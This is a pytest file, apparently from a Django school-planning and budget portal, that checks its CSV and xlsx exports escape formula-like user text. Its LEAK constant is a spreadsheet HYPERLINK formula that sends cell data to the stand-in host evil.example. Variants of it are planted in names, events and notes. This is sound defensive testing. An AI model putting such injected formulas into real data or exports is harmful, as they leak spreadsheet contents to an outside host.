"""No xlsx or CSV the portal writes turns text a person typed into a live formula."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from activities.models import Activity
from budget.models import BudgetLine
from budget.services import expenditure_save
from core.spreadsheet import csv_text, is_formula_like
from indicators.models import Indicator
from indicators.services import indicator_value_save
from networking.services import networking_event_save
from reporting import workflow
from reports.services import report_request
from schools.models import School
from schools.services import school_update

from .conftest import save_progress

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Daugiau")'
INJECTED = {
    "school": LEAK,
    "event": "+" + LEAK[1:],
    "progress": "@" + LEAK[1:],
    "supplier": "-" + LEAK[1:],
    "note": "\t" + LEAK,
    "activity": "=1+1 " + LEAK[1:],
}


@pytest.mark.parametrize("text", ["=1+1", "+370 600", "-5", "@SUM(A1)", "\tx", "\rx"])
def test_formula_looking_text_is_recognised(text):
    assert is_formula_like(text) and csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Gimnazija", "", "5 = 5", Decimal("-5"), -5, None])
def test_other_values_stay_as_they_are(value):
    assert not is_formula_like(value) and csv_text(value) == value


@pytest.fixture
def poisoned(kaunas, period, staff, other_staff, coordinator_g2, g2):
    """Formula-looking text in every kind of text that reaches an export, approved where reports need it."""
    school_update(school=g2, data={"name": INJECTED["school"], "former_name": ""})
    activity = Activity.objects.filter(plan=kaunas, parent__isnull=True).order_by("sort_key").first()
    Activity.objects.filter(pk=activity.pk).update(title=INJECTED["activity"])
    progress = save_progress(coordinator_g2, period, g2, done_text=INJECTED["progress"])
    t1 = School.objects.get(municipality=kaunas.municipality, code="T1")
    event = networking_event_save(
        user=coordinator_g2,
        plan=kaunas,
        school=g2,
        data={
            "date": period.starts_on,
            "form": "lesson",
            "title": INJECTED["event"],
            "participants": 5,
            "participating_schools": [t1],
        },
    )
    indicator = Indicator.objects.filter(plan=kaunas, computation="").order_by("number").first()
    value = indicator_value_save(
        user=coordinator_g2,
        period=period,
        school=g2,
        indicator=indicator,
        data={"value": Decimal("10"), "note": INJECTED["note"]},
    )
    items = workflow.items_submit(user=coordinator_g2, items=[progress, event, value])
    workflow.items_approve(user=staff, items=items)
    line = BudgetLine.objects.filter(activity__plan=kaunas, school=g2).first()
    expenditure_save(
        user=other_staff,
        line=line,
        data={
            "date": period.starts_on + datetime.timedelta(days=1),
            "amount": Decimal("10.00"),
            "vat": Decimal("0.00"),
            "vat_exception": False,
            "supplier": INJECTED["supplier"],
            "document_number": "=2+2",
            "description": LEAK,
            "status": "paid",
        },
    )
    return kaunas


def workbook_texts(content, name):
    """Every text cell of an xlsx; fails on a formula made of injected text."""
    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert "evil.example" not in str(cell.value), (name, sheet.title, cell.coordinate)
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def csv_texts(content, name):
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    fields = [field for row in rows for field in row]
    for field in fields:
        assert not is_formula_like(field), (name, field)
    return fields


def test_no_export_holds_a_formula_made_of_user_text(
    client_for, poisoned, staff, django_capture_on_commit_callbacks, tmp_path
):
    client = client_for(staff)
    g2 = School.objects.get(municipality=poisoned.municipality, code="G2")
    files = []
    for kind, school in (("progress", None), ("budget", None), ("school", g2)):
        with django_capture_on_commit_callbacks(execute=True):
            report = report_request(user=staff, plan=poisoned, kind=kind, period="2025-Q4", fmt="xlsx", school=school)
        report.refresh_from_db()
        assert report.state == "done", report.error
        files.append((f"report {kind}", "xlsx", report.file.read()))
    national = tmp_path / "national.xlsx"
    call_command(
        "make_report",
        "budget",
        "--municipality",
        "all",
        "--period",
        "all",
        "--format",
        "xlsx",
        "--output",
        str(national),
    )
    files.append(("national budget", "xlsx", national.read_bytes()))
    files.append(("expenditure template", "xlsx", client.get(reverse("budget:template", args=["kaunas"])).content))
    for fmt in ("csv", "xlsx"):
        files.append(
            (f"activities {fmt}", fmt, client.get(reverse("activities:list", args=["kaunas"]), {"export": fmt}).content)
        )
        for grouping in ("line", "activity", "school"):
            url = reverse("budget:overview", args=["kaunas"])
            files.append((f"budget {grouping} {fmt}", fmt, client.get(url, {"export": fmt, "by": grouping}).content))

    seen = []
    for name, fmt, content in files:
        seen += workbook_texts(content, name) if fmt == "xlsx" else csv_texts(content, name)
    for what in ("school", "event", "progress", "activity"):  # spending and notes appear only as sums
        assert any(INJECTED[what].strip() in value for value in seen), f"{what} never reached an export"
